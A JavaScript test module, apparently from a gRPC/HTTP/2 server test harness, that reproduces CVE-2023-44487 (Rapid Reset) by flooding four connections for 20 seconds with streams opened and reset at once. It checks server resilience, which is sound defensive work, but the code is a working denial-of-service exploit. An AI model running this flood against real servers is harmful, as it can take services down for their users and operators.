import { callHeaders, SEARCH } from '../../wire/grpc.mjs';
import { headers, reset } from '../../wire/http2.mjs';

/** CVE-2023-44487. */
export default {
  sends: 'streams that are reset at once, for 20 s, on 4 connections',
  mustNot: 'be begun: each costs the server more than its client',
  overTls: true,
  shortOverTls: true,
  seconds: 20,
  async run(context) {
    const blocks = [callHeaders(SEARCH), callHeaders('/nobody.serves/This')];
    let stream = -1;
    await context.flood(
      4,
      () => {
        stream = (stream + 2) % 0x7fffffff;
        return Buffer.concat([headers(stream, blocks[(stream >> 1) % 2]), reset(stream)]);
      },
      {
        begin: () => {
          stream = -1;
          return Buffer.alloc(0);
        },
      },
    );
  },
};
